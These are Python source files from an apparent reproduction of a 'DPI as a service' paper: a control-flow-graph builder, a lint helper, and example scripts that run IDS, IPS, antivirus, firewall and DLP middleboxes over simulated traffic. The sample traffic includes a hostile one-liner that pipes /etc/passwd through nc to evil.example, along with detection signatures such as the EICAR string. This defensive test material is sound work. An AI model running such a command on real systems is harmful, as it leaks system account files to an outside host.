            self._walk(statement.finalbody)
            finally_tail = self.current if self.current is not None else (
                self._new_block()
            )
            finally_frame = _Finally(finally_entry, finally_tail)
            self.finallys.append(finally_frame)
            self.current = saved

        if has_handlers or has_finally:
            self.protected_depth += 1
        body_start = len(self.cfg.blocks)
        body_entry = self._start_block([(header, "next")])
        self.current = body_entry
        self._walk(statement.body)
        body_end = self.current
        body_blocks = self.cfg.blocks[body_start : len(self.cfg.blocks)]
        if has_handlers or has_finally:
            self.protected_depth -= 1

        # else: runs only after the body completes normally; exceptions
        # there are NOT covered by this try's handlers.
        if statement.orelse and body_end is not None:
            self.current = self._start_block([(body_end, "next")])
            self._walk(statement.orelse)
            body_end = self.current

        handler_entries: list[Block] = []
        for handler in statement.handlers:
            entry = self._new_block()
            entry.statements.append(handler)  # ExceptHandler header node
            handler_entries.append(entry)
            self.current = entry
            self._walk(handler.body)
            if self.current is not None:
                if finally_frame is not None:
                    self._link(self.current, finally_frame.entry, "finally")
                    self._link(finally_frame.exit, after, "next")
                else:
                    self._link(self.current, after, "next")
            self.current = None

        # The exception can surface at any block of the protected body.
        for block in body_blocks:
            for entry in handler_entries:
                self._link(block, entry, "except")
            if not has_handlers and finally_frame is not None:
                # finally-only try: the exception runs the finally, then
                # keeps propagating.
                self._link(block, finally_frame.entry, "except")

        if finally_frame is not None:
            self.finallys.pop()
            self._link(finally_frame.exit, self.cfg.raise_exit, "raise")
            if body_end is not None:
                self._link(body_end, finally_frame.entry, "finally")
                self._link(finally_frame.exit, after, "next")
        elif body_end is not None:
            self._link(body_end, after, "next")
        self.current = after


_DISPATCH = {
    ast.Return: _Builder._handle_return,
    ast.Raise: _Builder._handle_raise,
    ast.Break: _Builder._handle_break,
    ast.Continue: _Builder._handle_continue,
    ast.If: _Builder._handle_if,
    ast.While: _Builder._handle_loop,
    ast.For: _Builder._handle_loop,
    ast.AsyncFor: _Builder._handle_loop,
    ast.With: _Builder._handle_with,
    ast.AsyncWith: _Builder._handle_with,
    ast.Try: _Builder._handle_try,
}


def build_cfg(function: FunctionNode, qualname: str | None = None) -> CFG:
    """The CFG of one ``ast`` function definition."""
    return _Builder(function, qualname or function.name).build()


def _functions(
    tree: ast.AST, scope: tuple[str, ...] = ()
) -> Iterator[tuple[str, FunctionNode]]:
    for node in ast.iter_child_nodes(tree):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            qualname = ".".join(scope + (node.name,))
            yield qualname, node
            yield from _functions(node, scope + (node.name,))
        elif isinstance(node, ast.ClassDef):
            yield from _functions(node, scope + (node.name,))


def function_cfgs(tree: ast.Module) -> dict[str, CFG]:
    """``{qualname: CFG}`` for every function/method in a module tree.

    Qualnames join nested scopes with dots (``Class.method``,
    ``outer.inner``); duplicate names keep the last definition, matching
    runtime semantics.
    """
    return {
        qualname: build_cfg(function, qualname)
        for qualname, function in _functions(tree)
    }
