"""The whole-lint-run view handed to project-phase rules.

Per-node rules see one module at a time; the dataflow/call-graph family
(RES/CON/DET003, DESIGN.md section 14) and the suppression audit (NOQ001)
run once over the *whole* set of linted modules after the per-node walk.
:class:`Program` is what they receive: every module's
:class:`~repro.analysis.engine.LintContext`, lazily-built per-module CFGs
and a lazily-built cross-module :class:`~repro.analysis.callgraph.CallGraph`
— built at most once per lint run no matter how many rules ask.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Sequence

from repro.analysis.callgraph import CallGraph
from repro.analysis.cfg import CFG, function_cfgs

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, types only
    from repro.analysis.engine import LintContext

__all__ = ["Program", "SuppressionRecord"]


class SuppressionRecord:
    """One ``# repro: noqa`` comment and whether it earned its keep."""

    def __init__(self, path: str, line: int, codes: frozenset[str] | None) -> None:
        self.path = path
        self.line = line
        #: None for a blanket ``# repro: noqa``.
        self.codes = codes
        #: Codes of findings this comment actually suppressed this run.
        self.used_codes: set[str] = set()


class Program:
    """Everything a project-phase rule may inspect."""

    def __init__(self, contexts: Sequence["LintContext"]) -> None:
        self.contexts: tuple["LintContext", ...] = tuple(contexts)
        #: Every suppression comment seen, filled in by the engine.
        self.suppressions: list[SuppressionRecord] = []
        #: Codes of the rules this run executed (drives NOQ001: a
        #: suppression is only judged unused when its codes were run).
        self.ran_codes: frozenset[str] = frozenset()
        #: True when the run covered the full registered catalog —
        #: blanket suppressions are only auditable then.
        self.complete: bool = False
        self._cfgs: dict[str, dict[str, CFG]] = {}
        self._call_graph: CallGraph | None = None

    def cfgs_for(self, context: "LintContext") -> dict[str, CFG]:
        """``{qualname: CFG}`` for one module (cached)."""
        cached = self._cfgs.get(context.path)
        if cached is None:
            cached = function_cfgs(context.tree)
            self._cfgs[context.path] = cached
        return cached

    @property
    def call_graph(self) -> CallGraph:
        """The cross-module call graph (built on first use)."""
        if self._call_graph is None:
            self._call_graph = CallGraph.build(self.contexts)
        return self._call_graph
