#!/usr/bin/env python
"""MCA^2-style attack mitigation (paper Section 4.3.1, Figure 6).

A DPI service instance is calibrated on benign traffic; an attacker then
sends *heavy* packets (match floods / near-miss payloads) that inflate the
engine's per-byte cost.  The stress monitor — the DPI controller acting as
the central MCA^2 coordinator — detects the anomaly, allocates a dedicated
instance running the flat-cost full-table layout, and migrates the heavy
flows to it.

Run:  python examples/mca2_mitigation.py
"""

from repro.core import DPIController, StressMonitor
from repro.core.messages import AddPatternsMessage, RegisterMiddleboxMessage
from repro.core.patterns import Pattern
from repro.net.steering import PolicyChain
from repro.workloads.attacks import match_flood_payload
from repro.workloads.patterns import generate_snort_like
from repro.workloads.traffic import TrafficGenerator

CHAIN = 100

# ----------------------------------------------------------------------
# 1. One IDS middlebox with a Snort-like pattern set.
# ----------------------------------------------------------------------
patterns = generate_snort_like(count=400, seed=3)
controller = DPIController()
controller.handle_message(
    RegisterMiddleboxMessage(middlebox_id=1, name="ids", stateful=True)
)
controller.handle_message(
    AddPatternsMessage(
        middlebox_id=1,
        patterns=[Pattern(i, p) for i, p in enumerate(patterns)],
    )
)
controller.policy_chains_changed(
    {"c": PolicyChain("c", ("ids",), chain_id=CHAIN)}
)
instance = controller.instances.provision("dpi-1")

# ----------------------------------------------------------------------
# 2. Calibrate the stress monitor on benign traffic.
# ----------------------------------------------------------------------
monitor = StressMonitor(controller, threshold_factor=1.5)
generator = TrafficGenerator(seed=9)
for index in range(60):
    instance.inspect(generator.benign_payload(900), chain_id=CHAIN, flow_key=f"user-{index % 10}")
baselines = monitor.calibrate()
print(f"calibrated baseline: {baselines['dpi-1']:.0f} ns/byte")

# ----------------------------------------------------------------------
# 3. The attack: three flows sending heavy payloads.  The monitor polls
#    periodically, as it would in deployment; the attack persists until
#    detected.
# ----------------------------------------------------------------------
attack_payload = match_flood_payload(patterns, 4000, seed=1)
events = []
for poll in range(5):
    for round_index in range(20):
        instance.inspect(
            attack_payload, chain_id=CHAIN, flow_key=f"attacker-{round_index % 3}"
        )
        # Benign users keep sending too.
        instance.inspect(generator.benign_payload(900), chain_id=CHAIN, flow_key="user-0")
    events = monitor.observe()
    if events:
        break
if not events:
    raise SystemExit("attack not detected — try a larger attack volume")
event = events[0]
print(
    f"\nSTRESS on {event.instance_name}: {event.ns_per_byte:.0f} ns/byte "
    f"({event.stress_factor:.1f}x the baseline)"
)

migrated_log = []
monitor.on_flow_migrated = lambda flow, target: migrated_log.append((flow, target))
action = monitor.mitigate(event)
print(f"dedicated instance: {action.dedicated_instance} "
      f"(created={action.dedicated_created}, layout="
      f"{controller.instances[action.dedicated_instance].config.layout})")
print("migrated heavy flows:")
for flow_key, target in migrated_log:
    print(f"  {flow_key} -> {target}")

# ----------------------------------------------------------------------
# 5. Attack traffic now lands on the dedicated instance; the primary
#    instance serves benign users again.
# ----------------------------------------------------------------------
dedicated = controller.instances[action.dedicated_instance]
for _ in range(5):
    dedicated.inspect(attack_payload, chain_id=CHAIN, flow_key="attacker-0")
    instance.inspect(generator.benign_payload(900), chain_id=CHAIN, flow_key="user-1")

telemetry = controller.telemetry_snapshot().instances
print("\nper-instance telemetry after mitigation:")
for name, snapshot in telemetry.items():
    print(f"  {name}: {snapshot['packets_scanned']} packets, "
          f"{snapshot['bytes_scanned']} bytes")

released = monitor.deallocate_dedicated()
print(f"\nattack over; released dedicated instances: {released}")
