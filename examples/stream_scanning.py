#!/usr/bin/env python
"""Stream reassembly + decompression in front of the DPI service.

The paper argues two preprocessing wins for DPI-as-a-service: heavy steps
like decompression run **once** per packet instead of once per middlebox,
and stateful scanning needs in-order flow bytes (session reconstruction).
This example drives both substrates:

1. a flow's segments arrive out of order and are reassembled;
2. one segment hides a signature inside a gzip-compressed body, which the
   service decompresses once and scans for every middlebox.

Run:  python examples/stream_scanning.py
"""

import gzip

from repro.core import DPIController, PayloadPreprocessor
from repro.core.messages import AddPatternsMessage, RegisterMiddleboxMessage
from repro.core.patterns import Pattern
from repro.net.addresses import IPv4Address, MACAddress
from repro.net.packet import make_tcp_packet
from repro.net.reassembly import TCPReassembler
from repro.net.steering import PolicyChain

CHAIN = 100
SIGNATURE = b"stolen-credentials-blob"

# ----------------------------------------------------------------------
# 1. Control plane: one stateful DLP-ish middlebox.
# ----------------------------------------------------------------------
controller = DPIController()
controller.handle_message(
    RegisterMiddleboxMessage(middlebox_id=1, name="dlp", stateful=True)
)
controller.handle_message(
    AddPatternsMessage(middlebox_id=1, patterns=[Pattern(0, SIGNATURE)])
)
controller.policy_chains_changed(
    {"exfil": PolicyChain("exfil", ("dlp",), chain_id=CHAIN)}
)
instance = controller.instances.provision("dpi-1")
reassembler = TCPReassembler()
preprocessor = PayloadPreprocessor()

# ----------------------------------------------------------------------
# 2. A TCP flow whose payload straddles segments, delivered out of order,
#    with a gzip-compressed exfiltration body in the middle.
# ----------------------------------------------------------------------
stream = (
    b"POST /upload HTTP/1.1\r\nContent-Encoding: gzip\r\n\r\n"
    + gzip.compress(b"... " + SIGNATURE + b" ...")
    + b"--end--"
)
segments = [
    (0, stream[:30]),
    (60, stream[60:]),      # arrives early
    (30, stream[30:60]),    # fills the gap
]

src, dst = MACAddress.from_index(0), MACAddress.from_index(1)


def packet_for(seq, data):
    return make_tcp_packet(
        src, dst, IPv4Address("10.0.0.1"), IPv4Address("10.0.0.2"),
        40000, 443, payload=data, seq=seq,
    )


total_matches = 0
for seq, data in segments:
    flow_key, released = reassembler.add_packet(packet_for(seq, data))
    print(f"segment seq={seq:3} len={len(data):3} -> released {len(released)} bytes")
    if not released:
        continue
    # Scan every view of the released bytes: raw + decompressed regions.
    for view in preprocessor.views(released):
        kind = "decompressed" if view.compressed else "raw"
        output = instance.inspect(view.data, chain_id=CHAIN, flow_key=(flow_key, kind))
        for _mb, matches in output.matches.items():
            for pattern_id, position in matches:
                total_matches += 1
                print(f"  MATCH in {kind} view: pattern {pattern_id} at {position}")

# ----------------------------------------------------------------------
# 3. The signature is invisible to a raw scan and to per-packet scans.
# ----------------------------------------------------------------------
raw_only = instance.automaton.scan(stream)
print(f"\nraw (compressed) stream scan finds {len(raw_only.raw_matches)} matches")
print(f"reassembled + decompressed scanning found {total_matches} match(es)")
print(f"preprocessor stats: inflated {preprocessor.stats.gzip_regions_inflated} "
      f"region(s), {preprocessor.stats.bytes_inflated} bytes")
assert total_matches >= 1, "signature should be found in the decompressed view"
print("\nOK: decompress once, scan once, serve every middlebox.")
