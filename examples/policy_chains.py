#!/usr/bin/env python
"""Policy chains on a simulated SDN — the paper's Figure 1(b) end to end.

A full software-defined network is built: user hosts, an OpenFlow switch,
a traffic steering application, a DPI controller, a DPI service instance,
and two middleboxes (IDS + traffic shaper) consuming scan results.  The DPI
controller negotiates with the TSA so the chain ``ids -> shaper`` becomes
``dpi -> ids -> shaper``, and packets are scanned exactly once.

Run:  python examples/policy_chains.py
"""

from repro.core import DPIController
from repro.core.instance import DPIServiceFunction
from repro.middleboxes.base import MiddleboxChainFunction
from repro.middleboxes.ids import IntrusionDetectionSystem
from repro.middleboxes.traffic_shaper import TrafficShaper
from repro.net.controller import SDNController
from repro.net.packet import make_tcp_packet
from repro.net.steering import (
    PolicyChain,
    TrafficAssignment,
    TrafficSteeringApplication,
)
from repro.net.topology import build_paper_topology

# ----------------------------------------------------------------------
# 1. Topology and SDN control plane.
# ----------------------------------------------------------------------
topo = build_paper_topology()
sdn = SDNController(topo, learning=False)
tsa = TrafficSteeringApplication(sdn, topo)

# ----------------------------------------------------------------------
# 2. Middleboxes: an IDS and an application-aware shaper.
# ----------------------------------------------------------------------
ids = IntrusionDetectionSystem(middlebox_id=1)
ids.add_signature(0, b"GET /cgi-bin/exploit", severity="high")
ids.add_regex_signature(1, rb"password=\w{1,16}", severity="low")

shaper = TrafficShaper(middlebox_id=2)
shaper.add_class("bulk", rate_bps=64_000)
shaper.add_app_pattern(0, b"BitTorrent protocol", "bulk")

# ----------------------------------------------------------------------
# 3. DPI control plane: registration, chains, TSA negotiation.
# ----------------------------------------------------------------------
dpi_controller = DPIController()
ids.register_with(dpi_controller)
shaper.register_with(dpi_controller)

tsa.register_middlebox_instance("ids", "mb1")
tsa.register_middlebox_instance("shaper", "mb2")
tsa.register_middlebox_instance("dpi", "dpi1")
tsa.add_policy_chain(PolicyChain("monitored", ("ids", "shaper")))

dpi_controller.attach_tsa(tsa)
print("chain after DPI negotiation:", tsa.chains["monitored"].middlebox_types)

tsa.assign_traffic(TrafficAssignment("user1", "user2", "monitored"))
tsa.realize()

# ----------------------------------------------------------------------
# 4. Data plane functions on the hosts.
# ----------------------------------------------------------------------
instance = dpi_controller.instances.provision("dpi1")
topo.hosts["dpi1"].set_function(DPIServiceFunction(instance))
topo.hosts["mb1"].set_function(MiddleboxChainFunction(ids))
topo.hosts["mb2"].set_function(MiddleboxChainFunction(shaper))

# ----------------------------------------------------------------------
# 5. Send traffic user1 -> user2 through the chain.
# ----------------------------------------------------------------------
user1, user2 = topo.hosts["user1"], topo.hosts["user2"]
payloads = [
    b"GET /index.html HTTP/1.1\r\nHost: example.com\r\n\r\n",
    b"GET /cgi-bin/exploit?shell=1 HTTP/1.1\r\n\r\n",
    b"POST /login user=bob&password=hunter2",
    b"\x13BitTorrent protocol and piece data follow",
]
for index, payload in enumerate(payloads):
    packet = make_tcp_packet(
        user1.mac, user2.mac, user1.ip, user2.ip, 40000 + index, 80,
        payload=payload,
    )
    user1.send(packet)
topo.run()

# ----------------------------------------------------------------------
# 6. What happened?
# ----------------------------------------------------------------------
print(f"\nDPI instance scanned {instance.telemetry.packets_scanned} packets "
      f"({instance.telemetry.bytes_scanned} bytes), "
      f"{instance.telemetry.packets_with_matches} had matches")

print("\nIDS alerts:")
for alert in ids.alerts:
    print(f"  rule {alert.rule_id} severity={alert.severity} "
          f"packet #{alert.packet_id}")

print("\nshaper flow classes:", dict(shaper.flow_classes) or "none")

delivered = [p for p in user2.received_packets if not p.is_result_packet]
print(f"\nuser2 received {len(delivered)} data packets; "
      f"marked-matched: {sum(p.is_marked_matched for p in delivered)}")
assert len(ids.alerts) >= 2, "expected IDS alerts on packets 2 and 3"
print("\nOK: packets scanned once, both middleboxes served.")
