#!/usr/bin/env python
"""Quickstart — DPI as a service in ~60 lines.

Two middleboxes (an IDS and an antivirus) outsource their pattern matching
to one DPI service instance.  Each packet is scanned **once** against the
merged pattern sets; every middlebox receives exactly the matches belonging
to its own patterns.

Run:  python examples/quickstart.py
"""

from repro.core import DPIController
from repro.core.messages import AddPatternsMessage, RegisterMiddleboxMessage
from repro.core.patterns import Pattern

# ----------------------------------------------------------------------
# 1. A DPI controller, and two middleboxes registering over JSON messages.
# ----------------------------------------------------------------------
controller = DPIController()

controller.handle_message(
    RegisterMiddleboxMessage(middlebox_id=1, name="ids", stateful=True).to_json()
)
controller.handle_message(
    RegisterMiddleboxMessage(middlebox_id=2, name="av", stateful=True).to_json()
)

# Each middlebox uploads its pattern set; note the shared pattern
# "malicious-payload" — the controller stores it once.
controller.handle_message(
    AddPatternsMessage(
        middlebox_id=1,
        patterns=[
            Pattern(pattern_id=0, data=b"GET /cgi-bin/exploit"),
            Pattern(pattern_id=1, data=b"malicious-payload"),
        ],
    ).to_json()
)
controller.handle_message(
    AddPatternsMessage(
        middlebox_id=2,
        patterns=[
            Pattern(pattern_id=0, data=b"VIRUS-SIGNATURE-ABC"),
            Pattern(pattern_id=1, data=b"malicious-payload"),
        ],
    ).to_json()
)
print(f"global pattern registry holds {len(controller.registry)} distinct patterns")

# ----------------------------------------------------------------------
# 2. A policy chain and a DPI service instance.
# ----------------------------------------------------------------------
from repro.net.steering import PolicyChain  # noqa: E402

controller.policy_chains_changed(
    {"web": PolicyChain("web", ("ids", "av"), chain_id=100)}
)
instance = controller.instances.provision("dpi-1")
print(
    f"instance automaton: {instance.automaton.num_states} states, "
    f"{instance.automaton.num_accepting} accepting"
)

# ----------------------------------------------------------------------
# 3. Scan packets once; read per-middlebox results.
# ----------------------------------------------------------------------
packets = [
    b"GET /index.html HTTP/1.1",                     # clean
    b"GET /cgi-bin/exploit?x=1 malicious-payload",   # IDS + both
    b"attachment: VIRUS-SIGNATURE-ABC",              # AV only
]
for index, payload in enumerate(packets):
    # One flow per packet here; pass the same flow_key for successive
    # packets of one flow to get cross-packet (stateful) matching.
    output = instance.inspect(payload, chain_id=100, flow_key=f"flow-{index}")
    print(f"\npayload: {payload!r}")
    if not output.has_matches:
        print("  no matches — forwarded untouched")
        continue
    for middlebox_id, matches in output.matches.items():
        name = "ids" if middlebox_id == 1 else "av"
        for pattern_id, position in matches:
            print(f"  {name}: pattern {pattern_id} ended at offset {position}")
    print(f"  match report: {output.report.size_bytes()} bytes on the wire")

print(f"\ntelemetry: {instance.telemetry.snapshot()}")
