#!/usr/bin/env python
"""The middlebox zoo — every DPI consumer from the paper's Table 1.

One DPI service instance serves, simultaneously: an IDS, an IPS, an
antivirus, an L7 firewall, a DLP system, a traffic shaper, an L7 load
balancer and a protocol-analytics box.  Each packet is scanned once; every
middlebox receives only its own matches and applies its own logic.

Run:  python examples/middlebox_zoo.py
"""

from repro.core import DPIController
from repro.core.reports import MatchReport
from repro.middleboxes import (
    AntiVirus,
    IntrusionDetectionSystem,
    IntrusionPreventionSystem,
    L7Firewall,
    L7LoadBalancer,
    LeakagePreventionSystem,
    ProtocolAnalytics,
    TrafficShaper,
)
from repro.net.addresses import IPv4Address, MACAddress
from repro.net.packet import make_tcp_packet
from repro.net.steering import PolicyChain

CHAIN = 100

# ----------------------------------------------------------------------
# 1. Build the zoo.
# ----------------------------------------------------------------------
ids = IntrusionDetectionSystem(1)
ids.add_signature(0, b"GET /cgi-bin/exploit", severity="high")

ips = IntrusionPreventionSystem(2)
ips.add_block_signature(0, b"exec-shellcode-sequence")

antivirus = AntiVirus(3)
antivirus.add_signature(0, b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR")

firewall = L7Firewall(4)
firewall.add_block_pattern(0, b"/etc/passwd")

dlp = LeakagePreventionSystem(5, prevent=False)
dlp.add_marker(0, b"COMPANY CONFIDENTIAL")
dlp.add_identifier_format(1, rb"\d{4}-\d{4}-\d{4}-\d{4}")

shaper = TrafficShaper(6)
shaper.add_class("bulk", rate_bps=1_000_000)
shaper.add_app_pattern(0, b"BitTorrent protocol", "bulk")

balancer = L7LoadBalancer(7)
balancer.add_pool("api", ["api-1", "api-2", "api-3"])
balancer.add_content_rule(0, b"GET /api/", "api")

analytics = ProtocolAnalytics(8)
analytics.add_protocol_banner(0, b"SSH-2.0", "ssh")
analytics.add_protocol_banner(1, b"HTTP/1.1", "http")

zoo = [ids, ips, antivirus, firewall, dlp, shaper, balancer, analytics]

# ----------------------------------------------------------------------
# 2. Register everyone; one chain through the whole zoo.
# ----------------------------------------------------------------------
controller = DPIController()
for middlebox in zoo:
    middlebox.register_with(controller)
controller.policy_chains_changed(
    {"zoo": PolicyChain("zoo", tuple(m.name for m in zoo), chain_id=CHAIN)}
)
instance = controller.instances.provision("dpi-1")
print(
    f"{len(zoo)} middleboxes, {len(controller.registry)} distinct patterns, "
    f"one automaton with {instance.automaton.num_states} states"
)

# ----------------------------------------------------------------------
# 3. Traffic.
# ----------------------------------------------------------------------
SAMPLES = [
    b"GET /api/users HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    b"GET /cgi-bin/exploit?id=1 HTTP/1.1\r\n\r\n",
    b"cat /etc/passwd | nc evil.example 9999",
    b"report: COMPANY CONFIDENTIAL card 1234-5678-9012-3456",
    b"\x13BitTorrent protocol ex.chunk",
    b"SSH-2.0-OpenSSH_9.0 handshake",
    b"shell: exec-shellcode-sequence \x90\x90\x90",
    b"mail attachment: X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR test file",
    b"plain boring text that matches nothing at all",
]

src = MACAddress.from_index(0)
dst = MACAddress.from_index(1)
for index, payload in enumerate(SAMPLES):
    packet = make_tcp_packet(
        src, dst, IPv4Address("10.0.0.1"), IPv4Address("10.0.0.2"),
        50000 + index, 80, payload=payload,
    )
    output = instance.inspect(payload, chain_id=CHAIN, flow_key=f"flow-{index}")
    report = MatchReport.decode(output.report.encode())
    print(f"\npacket {index}: {payload[:40]!r}...")
    if report.is_empty:
        print("  scan: no matches")
    for middlebox in zoo:
        verdict = middlebox.consume_report(packet, report)
        mine = report.matches_for(middlebox.middlebox_id)
        if mine:
            print(f"  {middlebox.name}: {len(mine)} match(es) -> {verdict.value}")

# ----------------------------------------------------------------------
# 4. Summary per middlebox.
# ----------------------------------------------------------------------
print("\n--- summary ---")
print(f"IDS alerts: {len(ids.alerts)}")
print(f"IPS blocked packets: {len(ips.blocked_packet_ids)}")
print(f"AV quarantined flows: {len(antivirus.quarantined_flows)}")
print(f"L7 firewall drops: {firewall.stats.packets_dropped}")
print(f"DLP incidents: {len(dlp.incidents)}")
print(f"shaper classified flows: {dict(shaper.flow_classes)}")
print(f"load-balancer assignments: {balancer.backend_loads()}")
print(f"protocol share: { {k: round(v, 2) for k, v in analytics.protocol_share().items()} }")
print(f"\nDPI instance: {instance.telemetry.packets_scanned} packets scanned once each")
